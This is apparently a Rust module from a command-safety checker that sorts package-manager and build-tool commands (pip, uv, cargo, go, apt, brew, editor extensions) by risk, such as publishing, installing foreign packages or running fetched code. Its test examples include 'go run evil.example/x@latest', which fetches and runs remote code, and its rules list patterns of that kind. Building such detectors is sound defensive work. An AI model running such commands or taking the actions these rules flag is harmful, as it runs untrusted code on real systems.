//! Build tools and package managers: what they install and publish.

use super::entry::When::{All, Always, Any, Not, Test, Value, Verbs, Word};
use super::entry::{Case, Command, Given, READS, lists};
use super::node::execute_package;
use super::options::{first_operand, has_word, operands, value};
use super::words::words;
use crate::path::name;
use crate::rules::{execution, infrastructure as rules};
use crate::shell::{Field, Flow, Io, Step, Walker};

pub(super) const COMMANDS: &[Command] = &[
    Command::code(
        words!("pip pip3 uv easy_install twine flit"),
        python,
        [&["list"], &[], &["publish"], &[]],
    ),
    Command::code(words!("cargo cross"), cargo, [&["tree"], &["build"], &["publish"], &[]]),
    Command::code(
        words!("go"),
        go,
        [&[], &["version", "build ./..."], &["run evil.example/x@latest"], &[]],
    ),
    Command::code(
        words!(
            "cmake ctest gradle gradlew mvn mvnw ant sbt mix dotnet swift composer gem stack cabal \
             dune zig lein"
        ),
        other,
        [&[], &["build"], &[], &[]],
    ),
    Command::cases(
        words!("pytest py.test tox nox jest vitest mocha ava playwright"),
        &[],
        &[OTHER],
        [&[], &["tests", "--version"], &[], &[]],
    ),
    Command::cases(
        words!(
            "apt apt-get aptitude dpkg yum dnf rpm pacman apk zypper snap flatpak port emerge \
             nix-env"
        ),
        &["-o", "-t", "-c"],
        &[&[
            Case(
                Any(&[
                    Verbs(
                        "list|show|search|info|policy|cache|outdated|deps|leaves|depends|uses|\
                             doctor|config",
                    ),
                    Test(asks),
                ]),
                READS,
            ),
            Case(All(&[Verbs("update|install|add"), Not(&Test(from_file))]), &execution::COMMAND),
            Case(Always, &rules::SYSTEM_PACKAGE),
        ]],
        [
            &["list", "--version", "-l"],
            &["install jq", "update"],
            &["remove jq", "install ./a.deb", "upgrade"],
            &[],
        ],
    ),
    // What brew removes it brings back, unless the settings go too; most of its commands only read.
    Command::cases(
        words!("brew"),
        &[],
        &[
            &[
                Case(
                    All(&[Word("--help -h --dry-run -n"), Not(&Verbs("uninstall|remove|rm"))]),
                    &execution::COMMAND,
                ),
                Case(
                    Any(&[
                        All(&[
                            Verbs("uninstall|remove|rm"),
                            Word("--force -f --zap --ignore-dependencies"),
                        ]),
                        All(&[Verbs("services *"), Not(&Verbs("services list|info"))]),
                        Verbs(
                            "tap *, bundle cleanup|dump|edit|exec|add|remove, \
                             analytics on|off|regenerate-uuid, \
                             untap|unlink|link|autoremove|postinstall|edit|create|extract|migrate|\
                             tap-new|developer|sh|pr-publish|bump-formula-pr|test",
                        ),
                        All(&[Verbs("install|reinstall|upgrade"), Test(foreign_formula)]),
                    ]),
                    &rules::SYSTEM_PACKAGE,
                ),
            ],
            OTHER,
        ],
        [
            &[],
            &["list", "tap", "services list", "uninstall jq", "install jq", "upgrade -n"],
            &[
                "untap a/b",
                "uninstall --zap jq",
                "services stop web",
                "install a/b/c",
                "install ./x.rb",
            ],
            &[],
        ],
    ),
    // An extension of the editor's market is known there, a file of one is not.
    Command::cases(
        words!("code codium cursor windsurf code-insiders"),
        &[],
        &[&[Case(Value(&["--install-extension"], "*/* *.vsix"), &rules::FOREIGN_PACKAGE)], OTHER],
        [
            &[],
            &[".", "--install-extension a.b"],
            &["--install-extension a.vsix", "--install-extension ./x"],
            &[],
        ],
    ),
];

const OTHER: &[Case] = &[Case(Always, &execution::COMMAND)];

/// Words with which something is published or withdrawn.
pub(super) const PUBLISH: &[&str] = words!(
    "publish unpublish deprecate yank owner dist-tag access token adduser login push upload \
     profile team hook"
);

fn python(walker: &mut Walker<'_>, words: &[Field], io: &Io<'_>) -> Step<Flow> {
    let program = name(&words[0].text).to_owned();
    let at = first_operand(
        words,
        &["--directory", "--project", "--python", "-p", "--proxy", "--cache-dir"],
    );
    let verb = words.get(at).map(|word| word.text.clone()).unwrap_or_default();
    if program == "uv" && verb == "run" {
        let from = at
            + first_operand(
                &words[at..],
                &["--with", "--python", "-p", "--extra", "--group", "--package", "--env-file"],
            );
        walker.found(&execution::COMMAND, "uv run");
        for package in value(words, &["--with", "-w"]).unwrap_or_default().split(',') {
            walker.fetches_package(package, "uv run --with");
        }
        if io.stdin.taint.network && words.get(from).is_some_and(|word| word.text == "-") {
            walker.found(&execution::FETCHED_SCRIPT, "uv run -");
        }
        if words.get(from).is_some_and(|word| word.text.ends_with(".py")) {
            let file = words[from].clone();
            return walker.execute(&file, "python", &[], io);
        }
        return walker.run(words.get(from..).unwrap_or_default(), io);
    }
    if program == "uv"
        && matches!(verb.as_str(), "tool" | "x")
        && words.get(at + 1).is_some_and(|word| word.text == "run")
    {
        return execute_package(walker, &words[at + 1..], io);
    }
    if matches!(
        verb.as_str(),
        "list" | "show" | "freeze" | "check" | "tree" | "--version" | "search" | "help" | "version"
    ) {
        return Ok(Flow::unknown());
    }
    if PUBLISH.contains(&verb.as_str()) || program == "twine" && verb != "check" {
        walker.found(&rules::PUBLISH, &format!("{program} {verb}"));
    }
    let index = value(
        words,
        words!("-i --index-url --extra-index-url -f --find-links --index --default-index"),
    );
    let foreign_index = index.is_some_and(|index| {
        !index.contains("pypi.org") && !index.contains("download.pytorch.org")
    });
    if foreign_index
        || words.iter().any(|word| {
            from_elsewhere(&word.text)
                && !word.text.contains("pypi.org")
                && !word.text.contains("download.pytorch.org")
        })
        || has_word(words, &["--break-system-packages"])
    {
        walker.found(&rules::FOREIGN_PACKAGE, &super::options::joined(words));
    }
    walker.found(&execution::COMMAND, &format!("{program} {verb}"));
    if verb == "install" || verb == "tool" {
        for word in operands(words, &["-r", "-c", "-i", "-t", "--requirement"]).iter().skip(1) {
            let package = word.text.clone();
            walker.installs_package(&package);
        }
    }
    Ok(Flow::unknown())
}

fn cargo(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
    let words: Vec<Field> = words
        .iter()
        .enumerate()
        .filter(|(index, word)| !(*index == 1 && word.text.starts_with('+')))
        .map(|(_, word)| word.clone())
        .collect();
    for (index, word) in words.iter().enumerate() {
        let text = word.text.strip_prefix("--config=").or_else(|| {
            (word.text == "--config")
                .then(|| words.get(index + 1).map(|next| next.text.as_str()))
                .flatten()
        });
        if let Some(text) = text.filter(|text| {
            ["runner", "wrapper", "linker", "rustc", "registr", "source", "alias"]
                .iter()
                .any(|key| text.contains(key))
        }) {
            walker.found(&crate::rules::environment::HELPER, text);
        }
    }
    let verb = operands(&words, &["--manifest-path", "-Z", "-C", "--config", "--color"])
        .first()
        .map(|word| word.text.clone())
        .unwrap_or_default();
    if matches!(
        verb.as_str(),
        "" | "tree"
            | "metadata"
            | "search"
            | "pkgid"
            | "locate-project"
            | "version"
            | "help"
            | "info"
            | "verify-project"
            | "read-manifest"
    ) {
        return Ok(Flow::unknown());
    }
    let dry = has_word(&words, &["--dry-run"]);
    let asks = has_word(&words, &["--list", "-l", "--help"]);
    if PUBLISH.contains(&verb.as_str()) && !dry && !asks {
        walker.found(&rules::PUBLISH, &format!("cargo {verb}"));
    }
    if verb == "install" && (value(&words, &["--git", "--index", "--registry"]).is_some()) {
        walker.found(&rules::FOREIGN_PACKAGE, "cargo install");
    }
    if matches!(verb.as_str(), "install" | "binstall")
        && value(&words, &["--path", "--git"]).is_none()
        && !asks
    {
        let valued =
            ["--version", "--vers", "--root", "--features", "-F", "--bin", "-j", "--profile"];
        for package in operands(&words, &valued).iter().skip(1) {
            let package = package.text.clone();
            walker.fetches_package(&package, &format!("cargo {verb}"));
        }
    }
    for option in ["--manifest-path", "--path"] {
        if let Some(file) = value(&words, &[option]).map(str::to_owned) {
            let path = crate::path::absolute(&file, &walker.state.cwd);
            if walker.is_stray(&path) && !walker.is_written(&path) {
                walker.found(&execution::STRAY_SCRIPT, &file);
            }
        }
    }
    walker.found(&execution::COMMAND, &format!("cargo {verb}"));
    Ok(Flow::unknown())
}

fn go(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
    let rest =
        operands(words, words!("-o -run -tags -ldflags -C -mod -count -timeout -bench -gcflags"));
    let verb = rest.first().map(|word| word.text.clone()).unwrap_or_default();
    if matches!(verb.as_str(), "version" | "env" | "list" | "doc" | "help" | "" | "vet")
        && !has_word(words, &["-w"])
    {
        walker.found(&execution::COMMAND, "go");
        return Ok(Flow::unknown());
    }
    let foreign = matches!(verb.as_str(), "run" | "install")
        && rest.iter().skip(1).take(1).any(|word| {
            word.text.contains('@')
                || (word.text.contains('.')
                    && word.text.contains('/')
                    && !word.text.starts_with('.')
                    && !word.text.ends_with(".go"))
        });
    let known = rest.get(1).is_some_and(|word| {
        walker.knows_package(&word.text)
            || (verb == "install" && word.text.starts_with("github.com/"))
    });
    if let Some(package) = rest.get(1).filter(|_| verb == "install" && foreign) {
        let package = package.text.clone();
        walker.installs_package(&package);
    }
    if words.iter().any(|word| {
        word.text.starts_with("-toolexec")
            || word.text.starts_with("-exec")
            || word.text.starts_with("-overlay")
    }) {
        walker.found(&execution::CODE_EXECUTES, "go -toolexec");
    }
    walker.found(
        if foreign && !known { &rules::FOREIGN_PACKAGE } else { &execution::COMMAND },
        &format!("go {verb}"),
    );
    if verb == "build"
        && let Some(made) = value(words, &["-o"])
    {
        let made = crate::path::absolute(made, &walker.state.cwd);
        walker.copies(&Field::new("/usr/bin/true"), &made);
    }
    for file in rest.iter().skip(1).filter(|word| verb == "run" && word.text.ends_with(".go")) {
        let path = crate::path::absolute(&file.text, &walker.state.cwd);
        if walker.is_stray(&path) && !walker.is_written(&path) {
            walker.found(&execution::STRAY_SCRIPT, &file.text);
        }
    }
    Ok(Flow::unknown())
}

fn other(walker: &mut Walker<'_>, words: &[Field], _io: &Io<'_>) -> Step<Flow> {
    let program = name(&words[0].text).to_owned();
    if words.iter().skip(1).any(|word| {
        matches!(
            word.text.as_str(),
            "publish"
                | "deploy"
                | "push"
                | "yank"
                | "upload"
                | "hex.publish"
                | "nuget"
                | "site:deploy"
                | "publishToMavenCentral"
        ) && !(program == "dotnet" && word.text == "publish")
            || word.text.ends_with("release:perform")
    }) {
        walker.found(&rules::PUBLISH, &program);
    }
    if program == "swift"
        && let Some(code) = value(words, &["-e"]).map(str::to_owned)
    {
        walker.code("c", &code, super::code::Evidence::Enough)?;
    }
    let valued: &[&str] =
        if program == "gem" { &["-v", "--version", "-g", "--gem"] } else { &["--version"] };
    let rest = operands(words, valued);
    let told = |at: usize| rest.get(at).map_or("", |word| word.text.as_str());
    let package = match (program.as_str(), told(0), told(1)) {
        ("gem", "exec", _) => told(1).to_owned(),
        ("dotnet", "tool", "install" | "exec" | "execute") => told(2).to_owned(),
        _ => String::new(),
    };
    walker.fetches_package(&package, &program);
    if let ("gem", "install") = (program.as_str(), told(0)) {
        for package in rest.iter().skip(1).map(|word| word.text.clone()).collect::<Vec<_>>() {
            walker.installs_package(&package);
        }
    }
    let source = value(words, &["--source", "-s", "--repository"])
        .is_some_and(|source| source.contains("://") && !source.contains("rubygems.org"));
    if source && program == "gem" {
        walker.found(&rules::FOREIGN_PACKAGE, &program);
    }
    walker.found(&execution::COMMAND, &program);
    Ok(Flow::unknown())
}

pub(super) fn from_elsewhere(text: &str) -> bool {
    text.contains("://")
        || text.starts_with("git+")
        || text.starts_with("github:")
        || text.starts_with("git@")
        || text.starts_with("gist:")
        || text.starts_with("bitbucket:")
}

fn asks(_walker: &Walker<'_>, given: &Given<'_>) -> bool {
    given.words.get(1).is_some_and(|word| {
        lists("-l -L -s -S -q -qa -ql -qf -Q -Ss -Si -Qi --list --version --prefix", &word.text)
    })
}

fn from_file(_walker: &Walker<'_>, given: &Given<'_>) -> bool {
    given.words.iter().skip(2).any(|word| lists("*/* *.deb *.rpm", &word.text))
}

fn foreign_formula(_walker: &Walker<'_>, given: &Given<'_>) -> bool {
    given.operands.iter().any(|word| {
        let text = word.text.as_str();
        text.matches('/').count() > 1 && !text.starts_with("homebrew/") || text.ends_with(".rb")
    })
}
